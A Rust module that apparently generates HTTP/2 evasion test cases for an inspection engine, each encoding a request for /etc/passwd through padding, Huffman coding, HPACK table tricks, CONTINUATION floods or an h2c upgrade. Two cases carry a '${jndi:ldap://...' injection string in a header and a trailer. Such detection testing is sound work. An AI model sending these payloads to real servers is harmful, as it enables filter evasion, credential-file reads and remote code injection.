//! HTTP/2: headers in many frames, packed in every way, and frames that are not needed.

use super::http::{BROTLI, gzip};
use super::talk::Talk;
use super::{PAYLOAD, Rule, Trick};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const PADDED: u8 = 8;
const PRIORITY: u8 = 32;

pub const TRICKS: &[Trick] = &[
    uri("none", |talk| asked(talk, &frame(HEADERS, END_STREAM | END_HEADERS, 1, &plain(b"/etc/passwd")))),
    uri("segments of one byte", |talk| {
        let request = frame(HEADERS, END_STREAM | END_HEADERS, 1, &plain(b"/etc/passwd"));
        talk.open();
        talk.up_in(&[PREFACE, &frame(4, 0, 0, &[]), &request].concat(), 1);
        talk.down(&[frame(4, 0, 0, &[]), answer()].concat());
        talk.close();
    }),
    uri("percent-encoded path", |talk| {
        asked(talk, &frame(HEADERS, END_STREAM | END_HEADERS, 1, &plain(b"/%65tc/./p%61sswd")));
    }),
    uri("padding and priority", |talk| {
        let body = [&[9, 0x80, 0, 0, 3, 200][..], &plain(b"/etc/passwd"), &[0; 9]].concat();
        asked(talk, &frame(HEADERS, END_STREAM | END_HEADERS | PADDED | PRIORITY, 1, &body));
    }),
    uri("a header block in frames of one byte", |talk| asked(talk, &in_frames(&plain(b"/etc/passwd"), 1))),
    uri("100 empty continuations before the block's end", |talk| {
        let block = plain(b"/etc/passwd");
        let (one, two) = block.split_at(6);
        let mut bytes = frame(HEADERS, END_STREAM, 1, one);
        (0..100).for_each(|_| bytes.extend(frame(9, 0, 1, &[])));
        bytes.extend(frame(9, END_HEADERS, 1, two));
        asked(talk, &bytes);
    }),
    uri("a flood of continuations on one stream, then the request on another", |talk| {
        let mut bytes = frame(HEADERS, END_STREAM, 1, &[0x82, 0x86, 0x84]);
        (0..400).for_each(|_| bytes.extend(frame(9, 0, 1, &[0, 1, b'x', 1, b'y'])));
        bytes.extend(frame(9, END_HEADERS, 1, &[]));
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, 3, &plain(b"/etc/passwd")));
        asked(talk, &bytes);
    }),
    uri("the path as Huffman", |talk| {
        let block = [&[0x82, 0x86, 0x04, 0x80 | 8][..], &HUFFMAN].concat();
        asked(talk, &frame(HEADERS, END_STREAM | END_HEADERS, 1, &block));
    }),
    uri("the path never indexed, its name written out", |talk| {
        let block = [&[0x82, 0x86, 0x10, 5][..], b":path", &[11], b"/etc/passwd"].concat();
        asked(talk, &frame(HEADERS, END_STREAM | END_HEADERS, 1, &block));
    }),
    uri("the path's name from the table that an earlier stream filled", |talk| {
        let bytes = [
            frame(HEADERS, END_STREAM | END_HEADERS, 1, &[0x83, 0x86, 0x44, 2, b'/', b'a']),
            frame(3, 0, 1, &[0, 0, 0, 8]),
            frame(HEADERS, END_STREAM | END_HEADERS, 3, &[&[0x82, 0x86, 0x0f, 0x2f, 11][..], b"/etc/passwd"].concat()),
        ];
        asked(talk, &bytes.concat());
    }),
    uri("the table made small and large again before the path", |talk| {
        let block = [&[0x20, 0x3f, 0xe1, 0x1f][..], &plain(b"/etc/passwd")].concat();
        asked(talk, &frame(HEADERS, END_STREAM | END_HEADERS, 1, &block));
    }),
    uri("a length written in more bytes than needed", |talk| {
        let filler = "x".repeat(127);
        let block =
            [&[0x82, 0x86, 0, 1, b'a', 0x7f, 0x80, 0x00][..], filler.as_bytes(), &[0x04, 11], b"/etc/passwd"].concat();
        asked(talk, &frame(HEADERS, END_STREAM | END_HEADERS, 1, &block));
    }),
    uri("the path behind other headers", |talk| {
        let block = [&[0x82, 0x86, 0, 1, b'a', 1, b'b', 0x04, 11][..], b"/etc/passwd"].concat();
        asked(talk, &frame(HEADERS, END_STREAM | END_HEADERS, 1, &block));
    }),
    uri("unknown frames, pings and priorities between", |talk| {
        let bytes = [
            frame(0x42, 0xff, 0, b"abc"),
            frame(6, 0, 0, &[0; 8]),
            frame(2, 0, 1, &[0, 0, 0, 0, 9]),
            frame(8, 0, 0, &[0, 0, 1, 0]),
            frame(0x77, 0, 1, b"xyz"),
            frame(HEADERS, END_STREAM | END_HEADERS, 1, &plain(b"/etc/passwd")),
        ];
        asked(talk, &bytes.concat());
    }),
    uri("behind 300 streams that were reset at once", |talk| {
        let mut bytes = Vec::new();
        for stream in (1..600).step_by(2) {
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &plain(b"/")));
            bytes.extend(frame(3, 0, stream, &[0, 0, 0, 8]));
        }
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, 601, &plain(b"/etc/passwd")));
        asked(talk, &bytes);
    }),
    uri("by an upgrade of HTTP/1", |talk| {
        talk.open();
        talk.up(b"GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n");
        talk.down(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n");
        talk.down(&[frame(4, 0, 0, &[]), answer()].concat());
        talk.up(&[PREFACE, &frame(4, 0, 0, &[]), &frame(HEADERS, END_STREAM | END_HEADERS, 3, &plain(b"/etc/passwd"))]
            .concat());
        talk.down(&frame(HEADERS, END_STREAM | END_HEADERS, 3, &[0x88]));
        talk.close();
    }),
    Trick {
        area: "HTTP/2",
        name: "a header's value with the name in capital letters",
        rule: Rule::Header,
        play: |talk| {
            let block = [&plain(b"/")[..], &[0, 1, b'X', 17], b"${jndi:ldap://x.y"].concat();
            asked(talk, &frame(HEADERS, END_STREAM | END_HEADERS, 1, &block));
        },
    },
    Trick {
        area: "HTTP/2",
        name: "in a trailer",
        rule: Rule::Header,
        play: |talk| {
            let trailer = [&[0, 1, b'x', 17][..], b"${jndi:ldap://x.y"].concat();
            let bytes = [
                frame(HEADERS, END_HEADERS, 1, &plain(b"/")),
                frame(0, 0, 1, b"abc"),
                frame(HEADERS, END_STREAM | END_HEADERS, 1, &trailer),
            ];
            asked(talk, &bytes.concat());
        },
    },
    answer_of("an answer in frames of one byte, padded", |talk| {
        let mut bytes = frame(HEADERS, END_HEADERS, 1, &[0x88]);
        for byte in PAYLOAD.bytes() {
            bytes.extend(frame(0, PADDED, 1, &[3, byte, 0, 0, 0]));
        }
        bytes.extend(frame(0, END_STREAM, 1, &[]));
        answered(talk, &bytes);
    }),
    answer_of("an answer in gzip", |talk| {
        let headers = [&[0x88, 0x0f, 0x0b, 4][..], b"gzip"].concat();
        let body = frame(0, END_STREAM, 1, &gzip(PAYLOAD.as_bytes()));
        answered(talk, &[frame(HEADERS, END_HEADERS, 1, &headers), body].concat());
    }),
    answer_of("an answer in brotli", |talk| {
        let headers = [&[0x88, 0x0f, 0x0b, 2][..], b"br"].concat();
        let bytes = [frame(HEADERS, END_HEADERS, 1, &headers), frame(0, END_STREAM, 1, BROTLI)].concat();
        answered(talk, &bytes);
    }),
    answer_of("an answer between frames of other streams", |talk| {
        let (one, two) = PAYLOAD.split_at(5);
        let bytes = [
            frame(HEADERS, END_HEADERS, 1, &[0x88]),
            frame(0, 0, 1, one.as_bytes()),
            frame(HEADERS, END_HEADERS, 3, &[0x88]),
            frame(0, 0, 3, b"harmless"),
            frame(0, END_STREAM, 1, two.as_bytes()),
        ];
        answered(talk, &bytes.concat());
    }),
];

/// `/etc/passwd` by the code of RFC 7541, appendix B.
const HUFFMAN: [u8; 8] = huffman();

const fn huffman() -> [u8; 8] {
    // (code, bits) of the letters.
    let codes: [(u64, u32); 11] = [
        (0x18, 6),
        (0x5, 5),
        (0x9, 5),
        (0x4, 5),
        (0x18, 6),
        (0x2b, 6),
        (0x3, 5),
        (0x8, 5),
        (0x8, 5),
        (0x78, 7),
        (0x24, 6),
    ];
    let mut out = [0u8; 8];
    let (mut bit, mut at) = (0, 0);
    while at < codes.len() {
        let (code, bits) = codes[at];
        let mut left = bits;
        while left > 0 {
            left -= 1;
            if code >> left & 1 == 1 {
                out[bit / 8] |= 0x80 >> (bit % 8);
            }
            bit += 1;
        }
        at += 1;
    }
    while bit < 64 {
        out[bit / 8] |= 0x80 >> (bit % 8);
        bit += 1;
    }
    out
}

const fn uri(name: &'static str, play: fn(&mut Talk)) -> Trick {
    Trick { area: "HTTP/2", name, rule: Rule::Uri, play }
}

const fn answer_of(name: &'static str, play: fn(&mut Talk)) -> Trick {
    Trick { area: "HTTP/2", name, rule: Rule::Answer, play }
}

/// A header block: GET, http, and the path written out.
fn plain(path: &[u8]) -> Vec<u8> {
    [&[0x82, 0x86, 0x41, 1, b'a', 0x04, path.len() as u8][..], path].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, body: &[u8]) -> Vec<u8> {
    let mut out = (body.len() as u32).to_be_bytes()[1..].to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(body);
    out
}

/// A header block cut into frames.
fn in_frames(block: &[u8], size: usize) -> Vec<u8> {
    let last = block.chunks(size).count() - 1;
    let parts = block.chunks(size).enumerate().map(|(at, part)| {
        let ends = if at == last { END_HEADERS } else { 0 };
        if at == 0 { frame(HEADERS, END_STREAM | ends, 1, part) } else { frame(9, ends, 1, part) }
    });
    parts.collect::<Vec<_>>().concat()
}

fn answer() -> Vec<u8> {
    [frame(HEADERS, END_HEADERS, 1, &[0x88]), frame(0, END_STREAM, 1, b"ok")].concat()
}

fn asked(talk: &mut Talk, bytes: &[u8]) {
    talk.open();
    talk.up(&[PREFACE, &frame(4, 0, 0, &[]), bytes].concat());
    talk.down(&[frame(4, 0, 0, &[]), answer()].concat());
    talk.close();
}

fn answered(talk: &mut Talk, bytes: &[u8]) {
    talk.open();
    talk.up(&[PREFACE, &frame(4, 0, 0, &[]), &frame(HEADERS, END_STREAM | END_HEADERS, 1, &plain(b"/a"))].concat());
    talk.down(&[&frame(4, 0, 0, &[]), bytes].concat());
    talk.close();
}
